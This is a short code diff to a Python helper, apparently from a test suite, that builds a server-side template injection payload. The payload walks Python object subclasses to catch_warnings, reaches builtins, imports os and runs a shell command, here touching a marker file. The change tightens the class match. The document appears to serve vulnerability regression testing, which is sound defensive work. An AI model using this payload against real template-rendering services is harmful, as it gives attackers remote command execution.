@@ -32,7 +32,7 @@ def cve_payload(target: Path) -> str:
     builtins, import os and run a shell command (here: create ``target``)."""
     return (
         "{% for x in ().__class__.__base__.__subclasses__() %}"
-        "{% if 'warning' in x.__name__ %}"
+        "{% if x.__name__ == 'catch_warnings' %}"
         "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(target) + "') }}"
         "{% endif %}{% endfor %}"
     )
